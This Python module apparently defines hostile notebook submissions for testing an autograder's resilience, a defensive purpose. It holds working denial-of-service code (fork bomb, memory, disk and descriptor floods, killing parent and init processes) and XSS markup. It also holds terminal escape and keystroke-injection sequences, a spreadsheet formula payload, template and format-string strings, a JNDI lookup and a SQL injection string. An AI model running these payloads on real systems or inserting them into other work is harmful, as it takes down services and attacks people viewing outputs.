"""Deny service, lose work: classes 28 to 31 and 33; class 32 is honest and lies in `honest`.

Floods run in a sandbox only, and have a bound of their own far above any sane limit, so that a
grader that fails to stop them fails visibly and not for ever.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from autograder.attacks.kit import (
    GRADED,
    NOTEBOOK,
    answer,
    answer_all,
    answers,
    attack,
    code_cell,
    dangerous,
    first_cell,
    graded,
    hostile,
    insert,
    last_cell,
    rewrite,
    solved,
)

# ------------------------------------------------------------------------ 28: endless loops, hangs


@attack(28, "A loop swallows every interrupt.")
def swallowed_interrupts(folder: Path) -> None:
    """Never give up the main thread."""
    first_cell(
        folder,
        """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
    )


@attack(28, "A lock is acquired twice in C, with all signals blocked.")
def blocked_signals(folder: Path) -> None:
    """Wait for ever where Python cannot be reached."""
    first_cell(
        folder,
        """
        import signal, threading
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        lock = threading.Lock()
        lock.acquire()
        lock.acquire()
        """,
    )


@attack(28, "A regular expression backtracks for longer than the universe will last.")
def regular_expression(folder: Path) -> None:
    """Compute in C without a look at signals, holding the interpreter's lock."""
    first_cell(folder, 'import re\nre.match(r"(a+)+$", "a" * 80 + "b")')


@attack(28, "Interrupt requests are switched off in the kernel, and a power tower is computed.")
def deaf_kernel(folder: Path) -> None:
    """Let the control channel do nothing, then block."""
    first_cell(
        folder,
        """
        import signal
        kernel = get_ipython().kernel
        async def ignore(*args, **kwargs): return {"status": "ok"}
        kernel.do_interrupt = kernel.interrupt_request = kernel.shutdown_request = ignore
        for name in list(kernel.control_handlers):
            kernel.control_handlers[name] = ignore
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        x = 9 ** 9 ** 9
        """,
    )


@attack(28, "The third function hangs; the two before it are right.", deserves=20)
def hang_in_function(folder: Path) -> None:
    """Lose the rest, and keep what was earned before."""
    answers(folder, solved(GRADED[:2]))
    answer(
        folder,
        GRADED[2],
        """
        def make_posterior(*args, **kwargs):
            while True:
                try:
                    import time
                    time.sleep(1000)
                except BaseException:
                    pass
        """,
    )


@attack(28, "A hundred and twenty cells take five seconds each, all below a cell's limit.")
def many_slow_cells(folder: Path) -> None:
    """Take no time that a limit for one cell would notice, and ten minutes together."""

    def change(notebook: dict[str, Any]) -> None:
        source = "import time; time.sleep(5)"
        notebook["cells"] += [code_cell(source, f"slow-{index}") for index in range(120)]

    rewrite(folder, change)


@attack(28, "The end hangs: exit handlers, destructors and threads that cannot be joined.")
def hang_at_exit(folder: Path) -> None:
    """Let everything go well until the kernel is asked to stop."""
    last_cell(
        folder,
        """
        import atexit, signal, threading, time
        def stay():
            while True:
                try:
                    time.sleep(1000)
                except BaseException:
                    pass
        class Clinging:
            def __del__(self): stay()
        atexit.register(stay)
        clinging = Clinging()
        get_ipython().kernel.clinging = clinging
        threading.Thread(target=stay, daemon=False).start()
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(number, lambda *args: stay())
        """,
    )


@attack(28, "The kernel stops itself, so that it neither answers nor dies.")
def stopped_kernel(folder: Path) -> None:
    """Stand still."""
    first_cell(folder, "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")


@attack(28, "Input is asked for from a user who is not there.")
def waiting_for_input(folder: Path) -> None:
    """Wait for an answer on the stdin channel."""
    first_cell(
        folder,
        """
        kernel = get_ipython().kernel
        kernel._allow_stdin = True
        import getpass, os
        os.read(0, 1)
        input("name? ")
        getpass.getpass()
        """,
    )


@attack(28, "Priorities and limits of this and all other processes are changed, where possible.")
def priorities_and_limits(folder: Path) -> None:
    """Take more than others get."""
    first_cell(
        folder,
        dangerous(
            """
            import os, resource
            def tried(what, function, *args):
                try:
                    print(what, function(*args), "DONE")
                except (OSError, ValueError) as error:
                    print(what, error)
            for name in dir(resource):
                if name.startswith("RLIMIT"):
                    kind = getattr(resource, name)
                    print(name, resource.getrlimit(kind))
                    tried(name, resource.setrlimit, kind, (-1, -1))
            tried("nice", os.nice, -20)
            tried("real time", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99))
            tried("all cores", os.sched_setaffinity, 0, range(1024))
            for pid in (1, os.getppid(), 0):
                tried("slow others", os.setpriority, os.PRIO_PROCESS, pid, 19)
                tried("limit others", resource.prlimit, pid, resource.RLIMIT_NOFILE, (0, 0))
            tried("core", resource.setrlimit, resource.RLIMIT_CORE, (-1, -1))
            """
        ),
    )


# ------------------------------------------------------------------------------------ 29: floods


@attack(29, "Every process forks two more, for as long as that works.")
def fork_bomb(folder: Path) -> None:
    """Fill the process table."""
    first_cell(
        folder,
        dangerous(
            """
            import os, signal, time
            ends = time.time() + 60
            n_alive = n_failed = 0
            while time.time() < ends and n_failed < 1000:
                try:
                    if os.fork() == 0:
                        os.setsid()
                        signal.signal(signal.SIGTERM, signal.SIG_IGN)
                    n_alive += 1
                except OSError:
                    n_failed += 1
                    time.sleep(0.01)
            print(n_alive)
            """
        ),
    )


@attack(29, "Threads are started until there are a hundred thousand.")
def thread_bomb(folder: Path) -> None:
    """Fill the process table with threads."""
    first_cell(
        folder,
        dangerous(
            """
            import threading, time
            threading.stack_size(65536)
            n_started = 0
            try:
                for n_started in range(100_000):
                    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            except BaseException as error:
                print(n_started, type(error).__name__, error)
            """
        ),
    )


@attack(29, "Memory is taken and touched, privately, shared, in pipes and by children.")
def memory_flood(folder: Path) -> None:
    """Fill memory in the ways that one limit may not count together."""
    first_cell(
        folder,
        dangerous(
            """
            import mmap, os
            held = []
            def take(shared):
                kind = mmap.MAP_SHARED if shared else mmap.MAP_PRIVATE
                block = mmap.mmap(-1, 2**26, kind | mmap.MAP_ANONYMOUS)
                for start in range(0, len(block), 4096):
                    block[start] = 1
                held.append(block)
            def flood():
                for index in range(3000):  # 187 GiB
                    take(index % 2)
            for _ in range(3):
                if os.fork() == 0:
                    try:
                        flood()
                    finally:
                        os._exit(0)
            pipes = []
            try:
                for _ in range(2000):
                    reads, writes = os.pipe()
                    os.set_blocking(writes, False)
                    os.write(writes, bytes(65536))
                    pipes.append((reads, writes))
            except OSError as error:
                print(len(pipes), error)
            flood()
            """
        ),
    )


@attack(29, "A memory file, shared segments, message queues and System V memory are filled.")
def shared_memory_flood(folder: Path) -> None:
    """Fill memory that no process' address space shows."""
    first_cell(
        folder,
        dangerous(
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmat.restype = ctypes.c_void_p
            for _ in range(200):
                identity = libc.shmget(0, ctypes.c_size_t(2**28), 0o1666)
                if identity < 0:
                    print("shmget", os.strerror(ctypes.get_errno()))
                    break
                address = libc.shmat(identity, None, 0)
                if address not in (None, 2**64 - 1):
                    ctypes.memset(address, 1, 2**28)
            try:
                for index in range(200):
                    fd = os.memfd_create(f"flood-{index}")
                    for _ in range(256):
                        os.write(fd, bytes(2**20))
            except OSError as error:
                print("memfd", error)
            """
        ),
    )


@attack(29, "Files grow without end in the working folder, /tmp, /dev/shm and wherever possible.")
def disk_flood(folder: Path) -> None:
    """Fill every file system that can be written to, with files and with holes."""
    first_cell(
        folder,
        dangerous(
            """
            import os
            import ipykernel
            places = {os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/home",
                os.path.dirname(ipykernel.get_connection_file()), os.path.expanduser("~"), "/"}
            block = os.urandom(2**20)
            for place in sorted(places):
                written = 0
                try:
                    for index in range(1000):
                        with open(os.path.join(place, f"flood-{index}"), "wb", 0) as file:
                            for _ in range(200):
                                written += file.write(block)
                except OSError as error:
                    print(place, written >> 20, "MiB", error)
                try:
                    with open(os.path.join(place, "hole"), "wb") as file:
                        os.posix_fallocate(file.fileno(), 0, 2**38)
                except OSError as error:
                    print(place, "hole", error)
            """
        ),
    )


@attack(29, "A million empty files, folders and links are made.")
def inode_flood(folder: Path) -> None:
    """Fill the tables of files."""
    first_cell(
        folder,
        dangerous(
            """
            import os
            import ipykernel
            connection = os.path.dirname(ipykernel.get_connection_file())
            for place in (os.getcwd(), "/tmp", "/dev/shm", connection):
                made = 0
                try:
                    for made in range(1_000_000):
                        if made % 10_000 == 0:
                            here = os.path.join(place, f"many-{made}")
                            os.mkdir(here)
                        os.close(os.open(f"{here}/{made}", os.O_CREAT | os.O_WRONLY))
                except OSError as error:
                    print(place, made, error)
            """
        ),
    )


@attack(29, "File descriptors, sockets and event files are opened until none is left.")
def descriptor_flood(folder: Path) -> None:
    """Fill the table of open files."""
    first_cell(
        folder,
        dangerous(
            """
            import os, resource
            soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
            held = []
            try:
                while len(held) < 2_000_000:
                    held.append(os.open("/dev/null", os.O_RDONLY))
            except OSError as error:
                print(len(held), error)
            """
        ),
    )


@attack(29, "Standard output and error grow without end.")
def output_flood(folder: Path) -> None:
    """Print more than anybody can hold."""
    first_cell(
        folder,
        dangerous(
            """
            import os, sys
            line = "flood " * 1000
            for index in range(1_000_000):  # 6 GB
                print(line)
                if index % 100 == 0:
                    print(line, file=sys.stderr)
                    os.write(1, line.encode())
                    os.write(2, line.encode())
            """
        ),
    )


@attack(29, "A single display message holds 300 MB.")
def one_huge_message(folder: Path) -> None:
    """Send in one piece what no limit on pieces counts."""
    first_cell(
        folder,
        dangerous(
            """
            from IPython.display import publish_display_data
            publish_display_data({"text/plain": "x" * 300_000_000})
            kernel = get_ipython().kernel
            kernel.session.send(kernel.iopub_socket, "display_data", {"data": {}, "metadata": {}},
                parent=kernel.get_parent(), buffers=[bytes(300_000_000)])
            raise ValueError("y" * 300_000_000)
            """
        ),
    )


@attack(29, "Two hundred thousand small displays, each a message and an output of its own.")
def many_messages(folder: Path) -> None:
    """Send more messages than can be looked at."""
    first_cell(
        folder,
        dangerous(
            """
            from IPython.display import clear_output, display
            for index in range(200_000):
                display({"text/plain": str(index)}, raw=True, display_id=str(index))
                if index % 1000 == 0:
                    clear_output(wait=True)
            """
        ),
    )


@attack(29, "A thread in the background floods the channels until the kernel is gone.")
def background_flood(folder: Path) -> None:
    """Keep sending, so that no cell's outputs ever end."""
    first_cell(
        folder,
        dangerous(
            """
            import threading
            kernel = get_ipython().kernel
            def flood():
                while True:
                    for kind, content in (
                        ("stream", {"name": "stdout", "text": "flood " * 10_000}),
                        ("status", {"execution_state": "busy"}),
                        ("display_data", {"data": {"@MIME@": "[" * 10_000}, "metadata": {}}),
                    ):
                        try:
                            kernel.session.send(kernel.iopub_socket, kind, content,
                                parent=kernel.get_parent())
                        except Exception:
                            pass
            for _ in range(2):
                threading.Thread(target=flood, daemon=True).start()
            """
        ),
    )


# ------------------------------------------------------------------------------ 30: dying kernels


@attack(30, "The third function kills the kernel; the two before it are right.", deserves=20)
def dies_in_function(folder: Path) -> None:
    """Die halfway: what was earned before remains earned."""
    answers(folder, solved(GRADED[:2]))
    answer(
        folder,
        GRADED[2],
        "import os\ndef make_posterior(*args, **kwargs):\n    os.kill(os.getpid(), 9)",
    )


@attack(30, "The first cell kills the kernel.")
def dies_at_once(folder: Path) -> None:
    """Die before anything was asked."""
    first_cell(folder, "import os\nos.kill(os.getpid(), 9)")


@attack(30, "The kernel crashes in C: a null pointer, in the third function.", deserves=20)
def segmentation_fault(folder: Path) -> None:
    """Die by a bug, as an honest student might."""
    answers(folder, solved(GRADED[:2]))
    answer(
        folder,
        GRADED[2],
        "import ctypes\ndef make_posterior(*args, **kwargs):\n    ctypes.string_at(0)",
    )


@attack(30, "Every function overflows the stack of the interpreter.")
def stack_overflow(folder: Path) -> None:
    """Die of recursion."""
    answer_all(
        folder,
        dangerous(
            """
            import sys
            sys.setrecursionlimit(10**9)
            def everything(*args, **kwargs): return everything(*args, **kwargs) + 1
            """
        ),
    )


@attack(30, "Parents, the namespace's first process and everything else are killed.")
def kill_everything(folder: Path) -> None:
    """Take the grader along."""
    first_cell(
        folder,
        dangerous(
            """
            import os, signal
            me = os.getpid()
            others = sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me)
            for pid in (os.getppid(), 1, *others, -os.getpgid(0), -1):
                for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
                    try:
                        if pid not in (-os.getpgid(0), 0):
                            os.kill(pid, number)
                            print("sent", number, "to", pid)
                    except OSError as error:
                        print(pid, error)
            """
        ),
    )


@attack(30, "All sockets and files of the kernel are closed while it goes on living.")
def closed_sockets(folder: Path) -> None:
    """Fall silent."""
    first_cell(folder, "import os, time\nos.closerange(0, 1024)\ntime.sleep(10_000)")


@attack(30, "The kernel answers a shutdown nobody asked for, and exits in good order.")
def orderly_shutdown(folder: Path) -> None:
    """Leave politely."""
    first_cell(
        folder, "get_ipython().kernel.do_shutdown(False)\nget_ipython().ask_exit()\nexit()\nquit()"
    )


# ------------------------------------------------------------------------- 31: broken notebooks


def _broken(name: str, title: str, content: bytes) -> None:
    """Register a notebook whose file has a given content."""

    def prepare(folder: Path) -> None:
        (folder / NOTEBOOK).write_bytes(content)

    prepare.__name__ = name
    attack(31, title)(prepare)


_CELL = (
    b'{"cell_type": "code", "metadata": {}, "outputs": [], "source": "1", "execution_count": null}'
)


def _notebook_of(
    cells: bytes, rest: bytes = b'"metadata": {}, "nbformat": 4, "nbformat_minor": 5'
) -> bytes:
    return b'{"cells": ' + cells + b", " + rest + b"}"


for _name, _title, _content in (
    ("empty_file", "The notebook is an empty file.", b""),
    ("not_json", "The notebook is a picture.", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40),
    ("cut_short", "The notebook ends in the middle.", b'{"cells": [{"cell_type": "code", "sour'),
    ("nested_deep", "The notebook is nested 100,000 deep.", b"[" * 10**5 + b"]" * 10**5),
    (
        "nested_metadata",
        "The notebook's metadata are nested as deep as the parser allows.",
        _notebook_of(b"[]", b'"nbformat": 4, "nbformat_minor": 5, "metadata": ')[:-1]
        + b'{"a":' * 900
        + b"1"
        + b"}" * 901,
    ),
    ("null_bytes", "The notebook consists of null bytes.", bytes(100_000)),
    ("utf_16", "The notebook is saved in UTF-16.", _notebook_of(b"[]").decode().encode("utf-16")),
    ("bad_utf_8", "The notebook's bytes are no UTF-8.", _notebook_of(b'["\xff\xfe\xc3"]')),
    ("json_list", "The notebook is a list.", b"[" + _CELL + b"]"),
    ("json_null", "The notebook is null.", b"null"),
    (
        "cells_no_dicts",
        "Cells are numbers, text, lists.",
        _notebook_of(b'[1, "x", null, [[]], {}]'),
    ),
    ("cells_no_list", "The cells are a mapping.", _notebook_of(b'{"0": ' + _CELL + b"}")),
    ("no_cells", "There are no cells, and no versions.", b"{}"),
    ("no_keys", "The one cell lacks everything.", _notebook_of(b'[{"cell_type": "code"}]')),
    (
        "format_3",
        "The notebook claims to be of format 3, with worksheets.",
        b'{"nbformat": 3, "nbformat_minor": 0, '
        b'"metadata": {"name": "../x"}, "worksheets": [{"cells":'
        b' [{"cell_type": "code", "input": ["1"], "language": "python", "outputs": []}]}]}',
    ),
    (
        "format_99",
        "The notebook claims to be of format 99.",
        _notebook_of(b"[" + _CELL + b"]", b'"metadata": {}, "nbformat": 99, "nbformat_minor": -5'),
    ),
    (
        "format_text",
        "The format's number is a text.",
        _notebook_of(b"[]", b'"metadata": {}, "nbformat": "four", "nbformat_minor": {}'),
    ),
    (
        "huge_numbers",
        "The notebook holds numbers that take for ever to read.",
        _notebook_of(
            b"[]", b'"metadata": {"x": ' + b"9" * 10**6 + b'}, "nbformat": 4, "nbformat_minor": 5'
        ),
    ),
    (
        "no_numbers",
        "The notebook holds NaN, Infinity and keys twice.",
        _notebook_of(b"[]", b'"cells": [NaN], "metadata": {"x": -Infinity}, "nbformat": NaN'),
    ),
):
    _broken(_name, _title, _content)


@attack(31, "There is no notebook at all.")
def missing_notebook(folder: Path) -> None:
    """Hand in an empty folder but for the library."""
    (folder / NOTEBOOK).unlink()


@attack(31, "The notebook bears another name.")
def renamed_notebook(folder: Path) -> None:
    """Hand in what a browser made of the name at the second download."""
    (folder / NOTEBOOK).rename(folder / "02_kl_weight (1).ipynb")


@attack(31, "Saved outputs weigh 60 MB.")
def heavy_outputs(folder: Path) -> None:
    """Hand in more than anybody wants to open."""

    def change(notebook: dict[str, Any]) -> None:
        graded(notebook, "run-04")["outputs"] = [
            {"output_type": "stream", "name": "stdout", "text": "x" * 60_000_000}
        ]

    rewrite(folder, change)


@attack(31, "The file weighs 300 MB, nearly all of it blanks.")
def heavy_file(folder: Path) -> None:
    """Hand in a valid notebook that takes all of the reader's memory."""
    with (folder / NOTEBOOK).open("ab") as file:
        for _ in range(300):
            file.write(b" " * 10**6)


@attack(31, "A data file of 300 MB comes along.")
def heavy_folder(folder: Path) -> None:
    """Hand in more than a sandbox's folder may hold; here it is a hole, a copy may fill it."""
    with (folder / "data.bin").open("wb") as file:
        file.truncate(300 * 2**20)


@attack(31, "The notebook has five thousand cells.")
def many_cells(folder: Path) -> None:
    """Hand in a notebook that is long."""

    def change(notebook: dict[str, Any]) -> None:
        notebook["cells"] += [code_cell(f"x = {n}", f"many-{n}") for n in range(5000)]

    rewrite(folder, change)


@attack(31, "Two thousand small files come along.")
def many_files(folder: Path) -> None:
    """Hand in a folder that takes long to copy."""
    for index in range(2000):
        (folder / f"data-{index}.txt").touch()


@attack(31, "Sources are numbers, mappings, null, nested lists, or not there.")
def malformed_sources(folder: Path) -> None:
    """Keep to the form of a notebook on the surface only."""
    values: tuple[Any, ...] = (5, {}, None, [["x"]], [1, 2], True, 1e300, [None])

    def change(notebook: dict[str, Any]) -> None:
        for name, value in zip(GRADED, values, strict=True):
            graded(notebook, name)["source"] = value
        del graded(notebook, "run-09")["source"]
        graded(notebook, "run-04")["outputs"] = [{"output_type": "none"}, 5, {}, None]
        graded(notebook, "run-17").update(metadata=None, outputs="x", execution_count="x")

    # The cells have lost what `graded` looks for by now, so one more lookup would fail.
    rewrite(folder, change)


@attack(31, "Sources and outputs hold lone surrogates, null characters and line separators.")
def odd_characters(folder: Path) -> None:
    """Write text that no file in UTF-8 can hold."""
    odd = "\ud800 \udfff \x00 \u2028 \u2029 \x85 \x0c \ufeff"

    def change(notebook: dict[str, Any]) -> None:
        notebook["cells"].insert(0, code_cell(f"# {odd}", "odd"))
        notebook["cells"].insert(
            1, code_cell("print('\\ud800'); raise ValueError('\\udfff')", "odd-2")
        )
        notebook["cells"][0]["outputs"] = [
            {"output_type": "stream", "name": "stdout", "text": odd},
            {"output_type": "error", "ename": odd, "evalue": odd, "traceback": [odd]},
        ]
        notebook["metadata"][odd] = odd
        graded(notebook, "why-one-over-n")["source"] = odd

    rewrite(folder, change)


@attack(31, "Cells share identities, have none, or bear ones that are no text.")
def malformed_identities(folder: Path) -> None:
    """Break what cells are told apart by."""
    values = ("same", "same", None, 5, "", "x" * 10_000, "with blank", "<b>")

    def change(notebook: dict[str, Any]) -> None:
        for index, cell in enumerate(notebook["cells"]):
            cell["id"] = values[index % len(values)]
        del notebook["cells"][0]["id"]

    rewrite(folder, change)


# --------------------------------------------------------------------- 33: outputs that act

_SCRIPT = "<script>document.title='@MARK@'</script>"
_MARKUP = (
    _SCRIPT,
    "<img src=x onerror=\"document.title='@MARK@'\">",
    "<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='@MARK@'\"><script>"
    "document.title='@MARK@'</script></svg>",
    "</pre></div></textarea></title><script>document.title='@MARK@'</script>",
    "<iframe srcdoc=\"<script>parent.document.title='@MARK@'</script>\"></iframe>",
    "<meta http-equiv=refresh content='0;url=https://example.com/@MARK@'>",
    "<base href='https://example.com/@MARK@/'><link rel=stylesheet href=x.css>",
    "<a href=\"javascript:document.title='@MARK@'\">click</a><form action='https://example.com'>",
    "<style>*{display:none}</style><!-- @MARK@",
    "<details open ontoggle=\"document.title='@MARK@'\"></details>",
)


@attack(33, "Cells display scripts, event handlers, frames, styles and redirections.")
def script_outputs(folder: Path) -> None:
    """Run a program in the browser of whoever opens the feedback."""
    first_cell(
        folder,
        f"""
        from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
        for text in {list(_MARKUP)!r}:
            print(text)
            for kind in (HTML, Markdown, Latex):
                display(kind(text))
            for kind in ("image/svg+xml", "text/html",
                "text/plain", "application/json", "image/png",
                    "text/x-unknown", "application/pdf",
                        "application/vnd.jupyter.widget-view+json"):
                display({{kind: text}}, raw=True)
        display(Javascript("document.title = '@MARK@'"))
        display({{"application/javascript": "document.title = '@MARK@'"}}, raw=True)
        display({{"image/png": "x' onerror='document.title=1' x='"}}, raw=True,
            metadata={{"image/png": {{"width": "1\\" onload=\\"document.title='@MARK@'"}}}})
        """,
    )
    insert(folder, "imports", f"raise type({_MARKUP[3]!r}, (Exception,), {{}})({_MARKUP[0]!r})")


@attack(33, "The same things stand in saved outputs, Markdown, attachments, tags and metadata.")
def script_cells(folder: Path) -> None:
    """Put into the file what no kernel needs to send."""

    def change(notebook: dict[str, Any]) -> None:
        texts = [hostile(folder, text).strip() for text in _MARKUP]
        cells = notebook["cells"]
        for index, text in enumerate(texts):
            source = (
                f"{text}\n\n[link](javascript:alert(1)) ![x](attachment:a.svg) $\\href{{{text}}}$"
            )
            cell = {
                "cell_type": "markdown",
                "id": f"script-{index}",
                "metadata": {},
                "source": source,
            }
            cell["metadata"] = {"tags": [f'x" onclick="{text}'], "name": text}
            cell["attachments"] = {"a.svg": {"image/svg+xml": text}, text: {"text/html": text}}
            cells.append(cell)
        raw = {"cell_type": "raw", "id": "script-raw", "metadata": {"format": "text/html"}}
        cells.append({**raw, "source": texts[0]})
        outputs = [
            {"output_type": "display_data", "data": {kind: texts}, "metadata": {}}
            for kind in ("text/html", "image/svg+xml", "application/javascript", "text/markdown")
        ]
        outputs.append({"output_type": "stream", "name": f"x'{texts[0]}", "text": texts})
        graded(notebook, "run-04")["outputs"] = outputs
        graded(notebook, "why-one-over-n")["source"] = texts
        notebook["metadata"]["title"] = texts[0]
        notebook["metadata"]["authors"] = [{"name": texts[0]}]
        notebook["metadata"]["language_info"] = {"name": texts[0], "pygments_lexer": texts[0]}

    rewrite(folder, change)


@attack(33, "Functions fail with markup in the error, so that it stands in the reason for failure.")
def script_reasons(folder: Path) -> None:
    """Put markup where the grader itself writes."""
    answer_all(
        folder,
        f"""
        import itertools
        TEXTS = itertools.cycle({list(_MARKUP)!r})
        def everything(*args, **kwargs): raise ValueError(next(TEXTS))
        """,
    )


@attack(33, "Outputs and errors hold terminal escapes: titles, clipboards, links, replies, resets.")
def terminal_escapes(folder: Path) -> None:
    """Take over the terminal of whoever reads the log."""
    first_cell(
        folder,
        r"""
        import fcntl, os, sys
        ESCAPES = "".join([
            "\x1b]0;@MARK@\x07", "\x1b]52;c;a25vdw==\x07", "\x1b[2J\x1b[H", "\x1bc", "\x1b[6n",
            "\x1b]8;;https://example.com/@MARK@\x07click\x1b]8;;\x07", "\x1bP+q544e\x1b\\",
            "\x1b[?1049h", "\x9b31m", "\x1b]1337;File=:@MARK@\x07",
                "\r\x1b[1A100 of 100", "\x08" * 50,
        ])
        print(ESCAPES)
        print(ESCAPES, file=sys.stderr)
        for fd in (0, 1, 2):
            for character in "touch know-typed\n":
                try:
                    fcntl.ioctl(fd, 0x5412, character)
                except OSError:
                    break
        for path in ("/dev/tty", "/dev/pts/0", "/dev/console", "/proc/1/fd/1", "/proc/1/fd/2"):
            try:
                with open(path, "w") as terminal:
                    terminal.write(ESCAPES)
                    print("wrote to", path)
            except OSError as error:
                print(error)
        """,
    )
    answer_all(
        folder,
        r"""
        def everything(*args, **kwargs):
            raise ValueError("\x1b]0;@MARK@\x07\x1b[2J\x9b1m" + ESCAPES)
        """,
    )


@attack(33, "Errors begin with what a spreadsheet takes for a formula.")
def spreadsheet_formulas(folder: Path) -> None:
    """Run a program on opening the table of results."""
    answer_all(
        folder,
        r"""
        import itertools
        FORMULAS = itertools.cycle(['=HYPERLINK("https://example.com/@MARK@","ok")',
            "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", '","=1","', "\n=1,100"])
        class Formula(Exception):
            def __str__(self): return next(FORMULAS)
        Formula.__name__ = '=1+1;"'
        def everything(*args, **kwargs): raise Formula
        """,
    )


@attack(33, "Rich markup, format strings and template braces stand in errors and names.")
def template_injection(folder: Path) -> None:
    """Have a table, a log or a template read text as instructions."""
    answer_all(
        folder,
        """
        import itertools
        TEXTS = itertools.cycle([
            "[link=https://example.com]@MARK@[/link]", "[/]", "[bold", "%s%s%n",
            "{0.__class__}", "{{ 7 * 7 }}",
                "{% raw %}", "${jndi:ldap://x}", "'; drop table grade; --"])
        def everything(*args, **kwargs): raise ValueError(next(TEXTS))
        """,
    )
